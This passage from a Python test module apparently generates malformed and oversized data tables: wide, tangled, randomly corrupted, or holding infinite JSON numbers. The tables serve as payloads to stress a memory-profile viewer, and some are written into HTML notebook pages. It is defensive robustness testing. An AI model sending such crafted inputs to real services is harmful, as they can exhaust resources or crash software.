    made.meta["words"] = ["wide 漢." * 300_000]
    made.meta["contexts"] = {
        name: [0] * 200_000 for name in ("category", "module", "operator", "file", "line")
    }
    return made


def _wide() -> Packed:
    rows = 160_000
    made = Packed({"schema": 1, "rows": rows, "columns": [], "meta": honest().meta}, {})
    made.meta["shape"], made.meta["labels"] = [16_000, 2_500], {}
    for at in range(255):
        made.put(f"column {at}", "int", bytes(rows))
    return made


def _tangled() -> Packed:
    """Few rows, each of which refers to the one before it thousands of times."""
    made = _tall(4_000, "word")
    made.put("inputs", "ragged", b"\0" + _varints([2_000] * 3_999) + b"\2" * (2_000 * 3_999))
    return made


def _random() -> Iterator[Payload]:
    """Bytes of an honest table changed at random, before and after they are packed."""
    chance = random.Random(5)
    for number in range(12):
        raw = bytearray(honest().raw())
        for _ in range(1 + number % 4):
            raw[chance.randrange(len(raw))] = chance.randrange(256)
        yield Payload(f"random: bytes {number}", output(packed(bytes(raw))))
    text = honest().raw()
    (length,) = struct.unpack_from("<I", text)
    header, body = text[4 : 4 + length].decode(), text[4 + length :]
    for name in _INFINITE:
        for number in ("1e999", "-1e999"):
            infinite = _infinite(header, name, number).encode()
            yield Payload(f"infinite: {name} {number}", output(packed(_framed(infinite, body))))


def _infinite(header: str, name: str, number: str) -> str:
    """The header with a number that JSON can say and no double can hold."""
    made = json.loads(header)
    value = made["meta"].get(name, 1)
    if isinstance(value, (dict, list)):
        _numbers(value, 424242)
        made["meta"][name] = value
    else:
        made["meta"][name] = 424242
    return json.dumps(made).replace("424242", number)


def timeline(word: str) -> MemoryTimeline:
    """A recording with the word in every text of it."""
    events = [
        MemoryEvent(0.0, 2048, 1, word, word, word, word, 3),
        MemoryEvent(0.5, 512, 2, "parameters", word, word, word, 4),
        MemoryEvent(1.0, -2048, 1, word, word, word, word, 5),
    ]
    return MemoryTimeline.of(events, device=word)


def notebooks(folder: Path, kinds: list[str], each: int = 24, most: int = 60_000) -> list[str]:
    """Write pages as a notebook has them, each with the frames of ``each`` payloads of at most ``most`` characters.

    Every second payload is enough: frames differ from what is shown elsewhere only in how the data comes into them.
    Returns the pages' addresses.
    """
    frames: list[str] = []
    for payload in itertools.islice(payloads(bombs=False), 0, None, 2):
        if len(payload.text) > most or '"title"' not in payload.text:
            continue
        data = json.loads(payload.text)
        view = data["views"][0] if isinstance(data, dict) and isinstance(data.get("views"), list) else {}
        if isinstance(view.get("title"), str) and isinstance(view.get("packed"), str):
            frame = _page.frame(kinds[len(frames) % len(kinds)], view["title"], view["packed"])
            assert frame is not None
            frames.append(frame.replace('loading="lazy"', ""))
    places = []
    for at in range(0, len(frames), each):
        place = folder / f"notebook-{at}.html"
        page = (
            f"<!DOCTYPE html><meta charset=utf-8><title>a notebook</title>{''.join(frames[at : at + each])}"
        )
        place.write_text(page, encoding="utf-8")
        places.append(place.as_uri())
    return places
